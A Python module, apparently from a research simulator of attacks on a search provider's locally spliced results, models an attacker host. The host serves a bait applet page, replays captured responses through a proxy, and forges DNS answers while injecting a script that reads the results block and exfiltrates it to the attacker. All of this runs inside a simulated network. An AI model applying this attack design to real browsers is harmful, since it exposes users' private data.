"""Attacker-side machinery.

One hostile host runs every attacker role: the web origin that serves the
bait page and applet code, the replay proxy that answers any proxied search
with previously captured bytes, the control channel that hands queries to
the applet and collects results, and the man-in-the-middle element that
forges DNS answers and transparently proxies the provider while injecting a
script payload.  Everything the attacker receives is recorded for leak
accounting.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Optional
from urllib.parse import quote_plus, unquote_plus

from . import browsermodel, pagemodel
from .browsermodel import Agent, AgentKind, Browser, run_agent
from .interceptor import parse_http_request, parse_query_terms
from .netfabric import ConnectionRefused, Fabric, ResolutionError, Stream
from .pagemodel import HtmlNode, NodeKind
from .searchcore import BLOCK_MARKER

WEB_PORT = 80
TLS_PORT = 443
PROXY_PORT = 8080
CONTROL_PORT = 9001


class SessionError(RuntimeError):
    """Interactive session used after its scenario was halted."""


class RoundError(RuntimeError):
    """One attack round could not complete (missing applet, failed step)."""


@dataclass(frozen=True)
class CannedResponse:
    """Previously captured provider response replayed to the victim."""

    label: str
    data: bytes


# ---- control protocol -----------------------------------------------------

def control_query(terms: list[str]) -> str:
    return json.dumps({"type": "QUERY", "terms": list(terms)}) + "\n"


def control_result(snippets: list[list[str]]) -> str:
    return json.dumps({"type": "RESULT", "snippets": snippets}) + "\n"


def control_done() -> str:
    return json.dumps({"type": "DONE"}) + "\n"


def parse_control_line(line: str) -> Optional[dict]:
    line = line.strip()
    if not line:
        return None
    try:
        message = json.loads(line)
    except ValueError:
        return None
    return message if isinstance(message, dict) and "type" in message else None


# ---- block extraction from raw bytes ---------------------------------------

def find_block_markup(data: str) -> Optional[str]:
    """Locate the spliced block's serialized bytes inside a response."""
    marker_pos = data.find(f'data-marker="{BLOCK_MARKER}"')
    if marker_pos < 0:
        return None
    start = data.rfind("<", 0, marker_pos)
    if start < 0:
        return None
    if data.startswith("<iframe", start):
        end = data.find("</iframe>", start)
        return data[start:end + len("</iframe>")] if end >= 0 else None
    depth = 0
    i = start
    while i < len(data):
        if data.startswith("<div", i):
            depth += 1
            i += 4
        elif data.startswith("</div>", i):
            depth -= 1
            i += 6
            if depth == 0:
                return data[start:i]
        else:
            i += 1
    return None


def extract_block_items(data: str) -> list[list[str]]:
    """Pull [label, text] pairs out of a response that may hold a block."""
    markup = find_block_markup(data)
    if markup is None:
        return []
    try:
        block = pagemodel.parse_page(markup)
    except pagemodel.ParseError:
        return []
    if block.kind is NodeKind.FRAME:
        return [["", block.attrs.get("src", "")]]
    pairs: list[list[str]] = []
    for _, node in pagemodel.iter_nodes(block):
        if node.kind is NodeKind.IMAGE:
            pairs.append(["", node.attrs.get("name", "")])
        elif node.attrs.get("class") == "gd-entry":
            path = ""
            snip = ""
            for child in node.children:
                if child.attrs.get("class") == "gd-path":
                    path = pagemodel.subtree_text(child)
                elif child.attrs.get("class") == "gd-snip":
                    snip = pagemodel.subtree_text(child)
            pairs.append([path, snip])
    return pairs


# ---- MITM element -----------------------------------------------------------

def mitm_transform(data: bytes, payload: list[dict]) -> tuple[bytes, bool]:
    """Append a script node carrying the payload program to a response body.

    Returns (bytes, changed).  Unparseable bodies pass through unchanged.
    """
    head, sep, body = data.partition(b"\r\n\r\n")
    if not sep:
        return data, False
    try:
        doc = pagemodel.parse_page(body)
    except pagemodel.ParseError:
        return data, False
    target = doc
    for child in doc.children:
        if child.kind is NodeKind.ELEMENT and child.tag == "body":
            target = child
            break
    target.children.append(pagemodel.script(json.dumps(payload)))
    return head + sep + pagemodel.serialize(doc), True


class MitmElement:
    """On-path attacker: forged DNS answers plus transparent proxying."""

    def __init__(self, fabric: Fabric, host_name: str, payload: list[dict]):
        self.fabric = fabric
        self.host_name = host_name
        self.payload = payload
        self.hijacked: dict[str, Optional[str]] = {}  # pattern -> authentic address

    def dns_hijack_install(self, pattern: str) -> None:
        host = self.fabric.hosts[self.host_name]
        self.fabric.install_hijacker(pattern, host.addresses[0], owner=self.host_name)
        self.hijacked[pattern] = self.fabric.dns.records.get(pattern)

    def authentic_address(self, name: str) -> Optional[str]:
        if name in self.hijacked:
            return self.hijacked[name]
        try:
            return self.fabric.resolve(self.host_name, name)
        except ResolutionError:
            return None

    def relay_secure(self, request: bytes, stream: Stream) -> bytes:
        # TLS is opaque on path: relay verbatim to the one authentic endpoint
        # this element hijacked and return whatever comes back, untouched.
        for authentic in self.hijacked.values():
            if authentic is None:
                continue
            upstream = self.fabric.connect(self.host_name, authentic, stream.dst_port,
                                           request, secure=True, actor="service:mitm")
            data = self.fabric.deliver(upstream)
            self.fabric.log("relayed_opaque", stream=stream.stream_id,
                            upstream=upstream.stream_id, bytes=len(data))
            return data
        raise ConnectionRefused("no authentic endpoint to relay to")

    def proxy_and_transform(self, request: bytes, stream: Stream, target_host: str) -> bytes:
        authentic = self.authentic_address(target_host)
        if authentic is None:
            raise ConnectionRefused(f"no route to {target_host!r}")
        upstream = self.fabric.connect(self.host_name, authentic, stream.dst_port,
                                       request, secure=False, actor="service:mitm")
        data = self.fabric.deliver(upstream)
        transformed, changed = mitm_transform(data, self.payload)
        if changed:
            self.fabric.log("transformed", stream=stream.stream_id,
                            upstream=upstream.stream_id, host=target_host,
                            payload_ops=[step.get("op", "") for step in self.payload])
        else:
            self.fabric.log("transform_skipped", stream=stream.stream_id,
                            upstream=upstream.stream_id, host=target_host,
                            reason="body not parseable")
        return transformed


# ---- attack server ----------------------------------------------------------

def default_applet_program(attack_host: str, provider_host: str) -> list[dict]:
    """Template the applet runs each round; {q} is the round's query."""
    search = f"GET http://{provider_host}/search?q={{q}} HTTP/1.0\r\n\r\n"
    return [
        {"op": "connect", "host": attack_host, "port": CONTROL_PORT, "payload": ""},
        {"op": "read_stream", "target": "$1"},
        {"op": "connect", "host": attack_host, "port": PROXY_PORT, "payload": search},
        {"op": "read_stream", "target": "$3"},
    ]


def default_mitm_payload(attack_host: str) -> list[dict]:
    """Injected script: grab the local block, ship it, then poke the subframe.

    The last two steps go after the framed results document (frame 1 when the
    block is an iframe).  A working same-origin policy denies that read, so
    they only ever matter if the policy breaks, and then the extra exfil would
    surface in the leak accounting.
    """
    exfil = f"http://{attack_host}:{WEB_PORT}"
    return [
        {"op": "dom_find", "marker": BLOCK_MARKER},
        {"op": "dom_read", "target": "$1"},
        {"op": "exfiltrate", "dest": exfil, "data": "$2"},
        {"op": "dom_read", "target": {"frame": 1, "path": []}},
        {"op": "exfiltrate", "dest": exfil, "data": "$4"},
    ]


def replay_proxy_respond(server: "AttackServer", request: bytes, stream: Stream) -> bytes:
    """Answer any proxied search with the canned capture, bit for bit."""
    req = parse_http_request(request)
    if req is None or req.method != "GET" or not req.target.startswith("http://"):
        return b"HTTP/1.0 400 Bad Request\r\n\r\n"
    _, _, query_string = req.target.partition("?")
    server.record("proxy_request", req.target,
                  terms=list(parse_query_terms(query_string)))
    server.fabric.log("replayed", stream=stream.stream_id,
                      canned=server.canned.label, bytes=len(server.canned.data))
    return server.canned.data


class AttackServer:
    """All attacker listeners plus the log of everything they receive."""

    def __init__(self, fabric: Fabric, host_name: str, provider_host: str,
                 canned: CannedResponse, applet_program: Optional[list[dict]] = None,
                 mitm: Optional[MitmElement] = None):
        self.fabric = fabric
        self.host_name = host_name
        self.provider_host = provider_host
        self.canned = canned
        self.applet_program = applet_program or default_applet_program(
            host_name, provider_host)
        self.mitm = mitm
        self.pending_terms: Optional[list[str]] = None
        self.received: list[dict] = []

    def record(self, kind: str, data: str, **extra) -> None:
        entry = {"kind": kind, "data": data}
        entry.update(extra)
        self.received.append(entry)
        self.fabric.log("attacker_recv", kind=kind, data=data,
                        **{k: v for k, v in extra.items()})

    # ---- listeners -------------------------------------------------------

    def install(self, with_tls: bool = False) -> None:
        host = self.fabric.hosts[self.host_name]
        address = host.addresses[0]
        self.fabric.add_service(self.host_name, address, WEB_PORT, self._front_door)
        self.fabric.add_service(self.host_name, address, PROXY_PORT, self._proxy)
        self.fabric.add_service(self.host_name, address, CONTROL_PORT, self._control)
        if with_tls:
            self.fabric.add_service(self.host_name, address, TLS_PORT, self._front_door)

    def _front_door(self, request: bytes, stream: Stream) -> bytes:
        if stream.secure:
            if self.mitm is None:
                raise ConnectionRefused("no TLS endpoint here")
            return self.mitm.relay_secure(request, stream)
        req = parse_http_request(request)
        host = req.headers.get("host", "").split(":")[0] if req else ""
        if req is None or host in ("", self.host_name):
            return self._web(req, stream)
        if self.mitm is not None:
            return self.mitm.proxy_and_transform(request, stream, host)
        return b"HTTP/1.0 502 Bad Gateway\r\n\r\n"

    def _web(self, req, stream: Stream) -> bytes:
        if req is None or req.method != "GET":
            return b"HTTP/1.0 400 Bad Request\r\n\r\n"
        path, _, query_string = req.target.partition("?")
        if path == "/":
            return b"HTTP/1.0 200 OK\r\n\r\n" + pagemodel.serialize(self.bait_page())
        if path == "/applet":
            body = json.dumps(self.applet_program).encode("utf-8")
            return b"HTTP/1.0 200 OK\r\n\r\n" + body
        if path == "/exfil":
            payload = ""
            for pair in query_string.split("&"):
                if pair.startswith("d="):
                    payload = unquote_plus(pair[2:])
            self.record("exfil", payload, actor=stream.actor)
            return (b"HTTP/1.0 200 OK\r\n\r\n"
                    + pagemodel.serialize(pagemodel.element("html")))
        return b"HTTP/1.0 404 Not Found\r\n\r\n"

    def _proxy(self, request: bytes, stream: Stream) -> bytes:
        return replay_proxy_respond(self, request, stream)

    def _control(self, request: bytes, stream: Stream) -> bytes:
        message = parse_control_line(request.decode("latin-1"))
        if message is None:
            if self.pending_terms is None:
                return control_done().encode("latin-1")
            return control_query(self.pending_terms).encode("latin-1")
        if message.get("type") == "RESULT":
            snippets = message.get("snippets", [])
            items = [pair for pair in snippets
                     if isinstance(pair, list) and len(pair) == 2]
            self.record("control_result", json.dumps(snippets), items=items)
            return control_done().encode("latin-1")
        return control_done().encode("latin-1")

    def bait_page(self) -> HtmlNode:
        codebase = f"http://{self.host_name}:{WEB_PORT}"
        return pagemodel.element("html", {}, [pagemodel.element("body", {}, [
            pagemodel.element("p", {}, [pagemodel.text_node("free screensavers inside")]),
            pagemodel.applet(codebase),
        ])])


# ---- interactive attack session ----------------------------------------------

@dataclass
class Round:
    terms: list[str]
    snippets: list[list[str]]
    received_start: int = 0
    received_end: int = 0


@dataclass
class InteractiveSession:
    """Query/refine loop the attacker drives against a built scenario."""

    attack: str                      # "applet" | "mitm_js" | "none"
    browser: Browser
    provider_host: str
    server: Optional[AttackServer] = None
    secure: bool = False
    rounds: list[Round] = field(default_factory=list)
    closed: bool = False

    def submit(self, terms: list[str]) -> list[list[str]]:
        if self.closed:
            raise SessionError("session is closed")
        start = len(self.server.received) if self.server else 0
        if self.attack == "applet":
            snippets = applet_attack_round(self, terms)
        elif self.attack == "mitm_js":
            snippets = mitm_round(self, terms)
        else:
            # No attacker: the user simply runs the web search themselves.
            scheme = "https" if self.secure else "http"
            url = f"{scheme}://{self.provider_host}/search?q={quote_plus(' '.join(terms))}"
            self.browser.load_page(url)
            snippets = []
        end = len(self.server.received) if self.server else 0
        self.rounds.append(Round(list(terms), snippets, start, end))
        return snippets

    def history(self) -> list[Round]:
        return list(self.rounds)


def applet_attack_round(session: InteractiveSession, terms: list[str]) -> list[list[str]]:
    """One QUERY -> proxied search -> RESULT exchange through the applet."""
    server = session.server
    agent = next((a for a in session.browser.agents if a.kind is AgentKind.APPLET), None)
    if agent is None:
        raise RoundError("no applet is attached to the victim's browser")
    if session.browser.closed:
        raise RoundError("victim browser is closed")
    server.pending_terms = list(terms)
    env = {"q": quote_plus(" ".join(terms))}
    trace = run_agent(session.browser, agent, env)
    for step, outcome in trace:
        if not outcome.ok:
            server.pending_terms = None
            raise RoundError(f"applet step {step.get('op')} failed: {outcome.error}")
    raw = trace[-1][1].value if trace else ""
    items = extract_block_items(raw if isinstance(raw, str) else "")
    finish = [
        {"op": "connect", "host": agent.origin.host, "port": CONTROL_PORT,
         "payload": control_result(items)},
        {"op": "read_stream", "target": "$1"},
    ]
    run_agent(session.browser, agent, program=finish)
    server.pending_terms = None
    return items


def mitm_round(session: InteractiveSession, terms: list[str]) -> list[list[str]]:
    """Victim loads the (hijacked) provider page; injected scripts then run."""
    server = session.server
    start = len(server.received) if server else 0
    scheme = "https" if session.secure else "http"
    url = f"{scheme}://{session.provider_host}/search?q={quote_plus(' '.join(terms))}"
    try:
        session.browser.load_page(url)
    except browsermodel.PageLoadError as exc:
        raise RoundError(f"victim page load failed: {exc}") from exc
    for agent in list(session.browser.agents):
        if agent.kind is AgentKind.SCRIPT:
            run_agent(session.browser, agent)
    if server is None:
        return []
    return [["", entry["data"]] for entry in server.received[start:]
            if entry["kind"] == "exfil" and entry["data"]]
